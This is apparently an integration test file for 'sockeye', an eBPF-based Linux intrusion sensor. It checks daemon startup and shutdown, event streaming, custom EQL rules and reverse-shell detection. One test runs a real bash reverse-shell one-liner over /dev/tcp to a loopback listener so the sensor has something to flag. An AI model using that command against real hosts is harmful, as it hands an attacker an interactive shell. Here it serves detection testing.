/**
 * `sockeye run` as users run it: a child process, "ready" on stderr, a finding on stdout for a
 * real reverse shell, SIGTERM → exit 0 with none of its programs left in the kernel; a process
 * running before the start is reported to Elastic rules as already_running.
 */
import { afterEach, describe, expect, it } from "vitest";
import { spawn, spawnSync } from "node:child_process";
import { chmodSync, copyFileSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, readlinkSync, rmSync, writeFileSync } from "node:fs";
import net from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { openSensorSync } from "sockeye";
import { bpftoolProgramNames, stillLoaded, kernelTier, programIdsHeldBy, run, tcpListener } from "./harness.js";

/** A TRC-101 finding as the daemon prints it, typed as far as these tests read it. */
interface Trc101Json {
  rule: { id: string };
  finding: { "IP address": string; Port: string; "File descriptor": number };
  [field: string]: unknown;
}

const tier = kernelTier();
const OUR_PROGRAMS = ["handle_dup2_exit", "handle_exec", "handle_connect_exit"];

/** Starts a daemon command and resolves once it logs its ready line. */
async function startUntilReady(cmd: string, args: string[]) {
  const child = spawn(cmd, args, { stdio: ["ignore", "pipe", "pipe"] });
  const out = { stdout: "", stderr: "" };
  child.stdout.on("data", (d) => (out.stdout += d));
  await new Promise<void>((resolve, reject) => {
    child.stderr.on("data", (d) => { out.stderr += d; if (out.stderr.includes("ready")) resolve(); });
    child.on("error", reject);
    child.on("exit", (code) => reject(new Error(`${cmd} exited ${code} before ready: ${out.stderr}`)));
  });
  const exited = new Promise<number | null>((resolve) => child.on("exit", (code) => resolve(code)));
  return { child, out, exited };
}

describe.runIf(tier.run)("kernel: sockeye run", () => {
  let daemon: ReturnType<typeof spawn> | undefined;
  // A failed test must not leave its daemon running (and holding the instance lock).
  afterEach(() => {
    if (daemon?.exitCode === null) daemon.kill("SIGKILL");
  });

  it("ready, a finding for a real reverse shell, then a clean SIGTERM", async () => {
    const capture = join(mkdtempSync(join(tmpdir(), "sockeye-capture-")), "events.jsonl");
    const started = await startUntilReady(process.execPath, ["dist/cli/main.js", "run", "--capture", capture]);
    const { child, out, exited } = started;
    daemon = child;
    // The ring reader runs real-time by default where the host lets root (an RT cgroup budget
    // can forbid it: then the ready line must say so).
    if (spawnSync("chrt", ["-r", "1", "true"]).status === 0)
      expect(out.stderr).toMatch(/"message":"sensor ready".*"scheduling":\{"reader":"SCHED_RR 1","eventLoop":"SCHED_RR 1 while calm"\}/);
    else expect(out.stderr).toMatch(/"message":"sensor ready".*"scheduling":\{"reader":"normal \(SCHED_RR refused: /);
    expect(bpftoolProgramNames()).toEqual(expect.arrayContaining(OUR_PROGRAMS));
    // This daemon's own programs (by its fds): other sensors may share the kernel meanwhile.
    const held = programIdsHeldBy(child.pid!);
    expect(held.length).toBeGreaterThanOrEqual(OUR_PROGRAMS.length);

    const catcher = await tcpListener("127.0.0.1", "exit\n");
    const port = catcher.port;
    await run("timeout", ["-s", "KILL", "5", "bash", "-c", `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`]);
    await new Promise((r) => setTimeout(r, 500));

    child.kill("SIGTERM");
    expect(await exited).toBe(0);
    await catcher.close();
    const { stdout, stderr } = out;

    const findings = stdout.trim().split("\n").filter(Boolean).map((l) => JSON.parse(l) as Trc101Json);
    const shellFindings = findings.filter((f) => f.rule.id === "TRC-101" && f.finding.Port === String(port));
    expect(shellFindings.length).toBeGreaterThanOrEqual(1);
    expect(shellFindings[0]).toMatchObject({
      event: { kind: "alert" },
      rule: { id: "TRC-101", name: "Process standard input/output over socket detected" },
      destination: { ip: "127.0.0.1", port },
      process: { name: "bash" },
      finding: { "IP address": "127.0.0.1", Port: String(port) },
    });
    expect(stderr).toMatch(/"message":"stopped","signal":"SIGTERM"/);
    expect(await stillLoaded(held)).toEqual([]);

    // The recorded capture replays into the same finding, without the kernel.
    const replayed = await run(process.execPath, ["dist/cli/main.js", "replay", capture]);
    expect(replayed.status).toBe(0);
    const again = replayed.stdout.trim().split("\n").map((l) => JSON.parse(l) as Trc101Json).filter((f) => f.rule.id === "TRC-101" && f.finding.Port === String(port));
    expect(again[0]).toMatchObject({ destination: { ip: "127.0.0.1", port }, process: { name: "bash" }, finding: shellFindings[0]!.finding });
  });

  it("the README's run command (sockeye on the PATH) is the daemon itself: SIGTERM to the pid started stops it cleanly", async () => {
    // scripts/setup.sh puts the wrapper there; the README's commands run setup first.
    const wrapper = "/usr/local/bin/sockeye";
    expect(readFileSync(wrapper, "utf8")).toMatch(/^exec \S+ \S*dist\/cli\/main\.js "\$@"$/m);
    const { child, out, exited } = await startUntilReady("sockeye", ["run", "--format", "json"]);
    daemon = child;
    // No wrapper process in between: the pid we hold is node running the CLI.
    expect(readlinkSync(`/proc/${child.pid}/exe`)).toBe(readlinkSync(`/proc/${process.pid}/exe`));
    expect(readFileSync(`/proc/${child.pid}/cmdline`, "utf8").split("\0")).toEqual(expect.arrayContaining(["run"]));
    const held = programIdsHeldBy(child.pid!);
    expect(held.length).toBeGreaterThanOrEqual(OUR_PROGRAMS.length);
    child.kill("SIGTERM");
    expect(await exited).toBe(0);
    expect(out.stderr).toMatch(/"message":"stopped","signal":"SIGTERM"/);
    expect(await stillLoaded(held)).toEqual([]);
  });

  it("starts under node --cpu-prof (a sampling signal every 50 µs while programs load)", async () => {
    const dir = mkdtempSync(join(tmpdir(), "sockeye-cpuprof-"));
    const { child, exited } = await startUntilReady(process.execPath, [
      "--cpu-prof", "--cpu-prof-dir", dir, "--cpu-prof-interval", "50", "dist/cli/main.js", "run", "--format", "none",
    ]);
    daemon = child;
    child.kill("SIGTERM");
    expect(await exited).toBe(0);
    // One profile per thread: the main one and the host view's look worker.
    expect(readdirSync(dir).filter((f) => f.endsWith(".cpuprofile"))).toHaveLength(2);
  });

  it("--events streams every event on stdout as an output of its own, counted at stop", async () => {
    const child = spawn(process.execPath, ["dist/cli/main.js", "run", "--events", "--format", "json", "--stats-interval", "0"], { stdio: ["ignore", "pipe", "pipe"] });
    daemon = child;
    let stdout = "", stderr = "";
    child.stdout.on("data", (d) => (stdout += d));
    await new Promise<void>((resolve, reject) => {
      child.stderr.on("data", (d) => { stderr += d; if (stderr.includes("ready")) resolve(); });
      child.on("exit", (code) => reject(new Error(`exited ${code} before ready: ${stderr}`)));
    });
    expect(stderr).toMatch(/"message":"sensor ready".*"outputs":\["stdout","events"\]/);
    const marker = `sockeye-events-${process.pid}`;
    await run("/bin/true", [marker]);
    await new Promise((r) => setTimeout(r, 300));
    // "close": stdout and stderr read to their end, not just the process gone.
    const exited = new Promise<number | null>((resolve) => child.on("close", (code) => resolve(code)));
    child.kill("SIGTERM");
    expect(await exited).toBe(0);
    type EventLine = { "sockeye.event"?: { kind: string; args?: string[] } };
    const events = stdout.trim().split("\n").map((l) => JSON.parse(l) as EventLine).flatMap((l) => (l["sockeye.event"] !== undefined ? [l["sockeye.event"]] : []));
    expect(events.find((e) => e.kind === "exec" && e.args?.includes(marker))).toMatchObject({ filename: "/bin/true" });
    type Stopped = { outputs: { name: string; written: number; dropped: Record<string, number> }[] };
    const stopped = JSON.parse(stderr.trim().split("\n").find((l) => l.includes('"message":"stopped"'))!) as Stopped;
    const counted = stopped.outputs.find((o) => o.name === "events");
    expect(counted?.written).toBe(events.length);
    expect(counted?.dropped.queue_full).toBe(0);
  });

  it("a process running before the start gives one already_running document: a rule of our own fires once, only for it", async () => {
    const dir = mkdtempSync(join(tmpdir(), "sockeye-already-running-"));
    // A program name no other process on the host has: a copy of sleep.
    const name = `skar${process.pid % 100_000}`;
    const program = join(dir, name);
    copyFileSync("/bin/sleep", program);
    chmodSync(program, 0o755);
    const rules = join(dir, "rules");
    mkdirSync(rules);
    const query = `process where host.os.type == "linux" and event.type == "info" and event.action == "already_running" and process.name == "${name}"`;
    writeFileSync(join(rules, "already-running.toml"), [
      "[rule]", 'author = ["sockeye tests"]', 'description = "A test program was already running"', 'language = "eql"',
      'license = "Apache-2.0"', 'name = "Test program already running"', "risk_score = 21", 'rule_id = "kt-already-running"',
      'severity = "low"', 'type = "eql"', `query = '''\n${query}\n'''`, "",
    ].join("\n"));
    const before = spawn(program, ["30"], { stdio: "ignore" });
    const after: ReturnType<typeof spawn>[] = [];
    try {
      await new Promise((r) => setTimeout(r, 100)); // exec'd: /proc names the copy
      const { child, out, exited } = await startUntilReady(process.execPath, ["dist/cli/main.js", "run", "--rules", rules, "--format", "json", "--stats-interval", "0"]);
      daemon = child;
      // Started while the daemon runs: an exec, not already running.
      after.push(spawn(program, ["30"], { stdio: "ignore" }));
      await new Promise((r) => setTimeout(r, 500));
      child.kill("SIGTERM");
      expect(await exited).toBe(0);
      type FindingJson = { rule: { id: string }; event: { category: string[] }; process: { pid: number; name: string; executable: string } };
      const findings = out.stdout.trim().split("\n").filter(Boolean).map((l) => JSON.parse(l) as FindingJson);
      const ours = findings.filter((f) => f.rule.id === "kt-already-running");
      expect(ours).toHaveLength(1);
      expect(ours[0]).toMatchObject({ event: { category: ["process"] }, process: { pid: before.pid, name, executable: program } });
      // The default rules stay quiet about processes merely running at start.
      expect(findings.filter((f) => f.rule.id !== "kt-already-running" && f.process.pid === before.pid)).toEqual([]);
    } finally {
      for (const p of [before, ...after]) p.kill("SIGKILL");
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it("accepted connections reach a loaded rule that reads them, and leave the kernel only then", async () => {
    // This test process is the server: its accept is the one the rule and the events show.
    const server = net.createServer((socket) => socket.end());
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const port = (server.address() as net.AddressInfo).port;
    const connectOnce = () => new Promise<void>((resolve, reject) => net.connect(port, "127.0.0.1").on("error", reject).on("close", () => resolve()).resume());
    type Line = { rule?: { id: string }; "sockeye.event"?: { kind: string; local?: { port: number } } };
    const linesOf = (stdout: string) => stdout.trim().split("\n").filter(Boolean).map((l) => JSON.parse(l) as Line);
    const dir = mkdtempSync(join(tmpdir(), "sockeye-accepts-"));
    try {
      // Default rules: none reads accepts, so the sensor reports none (the events stream shows every event).
      const plain = await startUntilReady(process.execPath, ["dist/cli/main.js", "run", "--events", "--format", "json", "--stats-interval", "0"]);
      daemon = plain.child;
      await connectOnce();
      await run("/bin/true", []);
      await new Promise((r) => setTimeout(r, 500));
      plain.child.kill("SIGTERM");
      expect(await plain.exited).toBe(0);
      const plainEvents = linesOf(plain.out.stdout).flatMap((l) => (l["sockeye.event"] ? [l["sockeye.event"]] : []));
      expect(plainEvents.some((e) => e.kind === "exec")).toBe(true);
      expect(plainEvents.filter((e) => e.kind === "accept")).toEqual([]);

      // A rule that reads them: the daemon turns accept records on, and the rule fires.
      writeFileSync(join(dir, "accepted.toml"), [
        "[rule]", 'author = ["sockeye tests"]', 'description = "A loopback connection was accepted"', 'language = "eql"',
        'license = "Apache-2.0"', 'name = "Test accept"', "risk_score = 21", 'rule_id = "kt-accepted"', 'severity = "low"', 'type = "eql"',
        `query = '''\nnetwork where event.type == "start" and event.action == "connection_accepted" and source.port == ${port}\n'''`, "",
      ].join("\n"));
      const reading = await startUntilReady(process.execPath, ["dist/cli/main.js", "run", "--rules", dir, "--events", "--format", "json", "--stats-interval", "0"]);
      daemon = reading.child;
      await connectOnce();
      await new Promise((r) => setTimeout(r, 500));
      reading.child.kill("SIGTERM");
      expect(await reading.exited).toBe(0);
      const lines = linesOf(reading.out.stdout);
      expect(lines.filter((l) => l.rule?.id === "kt-accepted")).toHaveLength(1);
      expect(lines.filter((l) => l["sockeye.event"]?.kind === "accept" && l["sockeye.event"].local?.port === port)).toHaveLength(1);
    } finally {
      server.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it("close() detaches and frees every program while the process lives on", async () => {
    const before = new Set(programIdsHeldBy(process.pid));
    const sensor = openSensorSync();
    const opened = programIdsHeldBy(process.pid).filter((id) => !before.has(id));
    expect(opened.length).toBeGreaterThanOrEqual(OUR_PROGRAMS.length);
    await sensor.close();
    expect(programIdsHeldBy(process.pid).filter((id) => opened.includes(id))).toEqual([]);
    expect(await stillLoaded(opened)).toEqual([]);
  });

  it("bad flags exit 2 with one line", async () => {
    const r = await run(process.execPath, ["dist/cli/main.js", "run", "--stdio-fd-max", "-3"]);
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(/--stdio-fd-max must be an integer from 0 to 1023/);
  });
});
